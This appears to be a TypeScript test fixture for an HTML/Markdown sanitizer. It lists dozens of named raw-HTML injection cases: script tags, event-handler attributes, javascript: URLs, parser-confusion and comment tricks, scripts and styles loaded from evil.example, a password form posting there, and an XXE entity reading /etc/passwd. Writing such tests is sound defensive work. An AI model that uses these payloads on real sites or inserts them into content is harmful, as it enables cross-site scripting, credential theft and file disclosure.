import { type Attack, type Case, inBody, inTranslation } from "./attack.ts";

const elements: [name: string, html: string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>'],
  ["a script in mixed case that is never closed", "<ScRiPt >alert(1)//"],
  ["a script in a script", "<scr<script>ipt>alert(1)</script>"],
  ["a module", '<script type="module">import "https://evil.example/x.js"</script>'],
  ["a picture with a handler", "<img src=x onerror=alert(1)>"],
  ["a picture by srcset", '<img srcset="https://evil.example/x.png 1x">'],
  ["a drawing with a handler", "<svg onload=alert(1)></svg>"],
  ["a script in a drawing", "<svg><script>alert&#40;1&#41;</script></svg>"],
  [
    "an animated link in a drawing",
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>',
  ],
  ["a reference in a drawing", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  [
    "HTML in a drawing",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  ],
  [
    "a style in a drawing that hides a handler",
    '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  ],
  [
    "a formula with a link",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  [
    "a formula that changes the parser's mind",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  ],
  ["a frame", '<iframe src="javascript:alert(1)"></iframe>'],
  [
    "a frame with its own document",
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  ],
  ["a set of frames", "<frameset onload=alert(1)><frame src=//evil.example></frameset>"],
  ["an object", '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ["an embedded file", '<embed src="//evil.example/x.swf" allowscriptaccess=always>'],
  ["an applet", "<applet code=X.class></applet>"],
  ["a base for all links", '<base href="https://evil.example/">'],
  ["a redirect by meta", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["a security policy by meta", '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ["a stylesheet from elsewhere", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["a page fetched beforehand", '<link rel="prefetch" href="https://evil.example/">'],
  ["a style element", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>'],
  ["a form", '<form action="https://evil.example/"><input name=password><button>x</button></form>'],
  ["a button with an address", '<button form=x formaction="javascript:alert(1)">x</button>'],
  ["a field that takes the focus", "<input autofocus onfocus=alert(1)>"],
  ["a list of choices with a handler", "<select autofocus onfocus=alert(1)><option>x</select>"],
  ["a template", "<template><script>alert(1)</script></template>"],
  ["a shadow root", '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>'],
  [
    "what is for browsers without scripts",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  ],
  ["an example of old", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>"],
  ["text without end", "<plaintext>"],
  ["a field of text that swallows the page", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>"],
  ["a title that swallows the page", "<title><p title='</title><img src=x onerror=alert(1)>'>"],
  ["a picture of old", "<image src=x onerror=alert(1)>"],
  ["a film", "<video autoplay onloadstart=alert(1)><source src=x onerror=alert(1)></video>"],
  ["a sound", "<audio src=x onerror=alert(1)></audio>"],
  ["a fold with a handler", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["a text that runs", "<marquee onstart=alert(1)>x</marquee>"],
  ["a body in the body", "<body onload=alert(1) onpageshow=alert(2)>"],
  ["the end of the page", "</div></main></body></html><script>alert(1)</script>"],
  ["a dialog of the page", '<dialog open id="p1">x</dialog>'],
  [
    "a popover of the page",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
  ],
  ["an animation that ends", "<p onanimationend=alert(1) class=block>x</p>"],
  ["a link with a handler", '<a href="#" onclick="alert(1)">x</a>'],
  ["a link that tells elsewhere", '<a href="/zh" ping="https://evil.example/">x</a>'],
  ["a map of links", '<map name=m><area href="javascript:alert(1)" shape=default></map>'],
  [
    "names that take the place of properties",
    '<a id="cookie" name="cookie">x</a><form id="location" name="getElementById"></form>',
  ],
  ["an element of its own", "<x-y onclick=alert(1)>x</x-y>"],
  ["an instruction", "<?xml-stylesheet href='javascript:alert(1)'?>"],
  ["a document type", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"],
  ["a section of characters", "<![CDATA[><img src=x onerror=alert(1)>]]>"],
  ["a comment for one browser", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["a tag whose attribute holds a tag", '<b title="><img src=x onerror=alert(1)>">x</b>'],
];

/** Where in a body a tag may hide. */
const places: [name: string, body: string][] = [
  ["a tag in a heading", "# x <img src=x onerror=alert(1)>"],
  ["a tag in a quotation in a list", "- > - <script>alert(1)</script>"],
  ["a tag in a cell", "| a |\n| - |\n| <img src=x onerror=alert(1)> |"],
  ["a tag in a link's text", "[<img src=x onerror=alert(1)>](/zh)"],
  ["a tag in a footnote", "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>"],
  ["a tag that a line end cuts", "一<b\ntitle='x'\n>二</b>"],
];

/** Tags to a browser, text to Markdown. */
const text: [name: string, body: string][] = [
  ["a script with a slash for a space", "<script/x>alert(1)</script/x>"],
  ["a picture with a handler behind slashes", '<img/src="x"/onerror=alert(1)>'],
  ["a picture with a handler behind line ends", "<img\nsrc=x\nonerror\n=\nalert(1)\n>"],
  ["a picture with a handler in grave accents", "<img src=`x` onerror=`alert(1)`>"],
];

/** Comments may stand in a translation: these are none, or hold more. */
const comments: Case[] = [
  ["a comment that a browser ends at once", "<!--><script>alert(1)</script>-->"],
  ["a comment that a browser ends with a dash", "<!---><img src=x onerror=alert(1)>-->"],
  ["a comment that ends with an exclamation mark", "<!-- --!><img src=x onerror=alert(1)>-->"],
  ["a comment in a comment", "<!-- <!-- --> <script>alert(1)</script> -->", "raw-html"],
  ["a comment without end", "The text.\n\n<!-- <script>alert(1)</script>", "raw-html"],
  ["a comment between two halves of a tag", "The <scr<!-- -->ipt>alert(1)</script>", "raw-html"],
  ["a script after a comment", "<!-- a --><script>alert(1)</script>", "raw-html"],
  ["a comment in a link's address", "[x](java<!-- -->script:alert(1))"],
];

export const rawHtml: Attack[] = [
  ...elements.map(([name, html]) => inBody([name, html, "raw-html"])),
  ...places.map(([name, body]) => inBody([name, body, "raw-html"])),
  ...text.map(inBody),
  ...comments.map(inTranslation),
  inTranslation(["a script", "<script>alert(1)</script>", "raw-html"]),
];
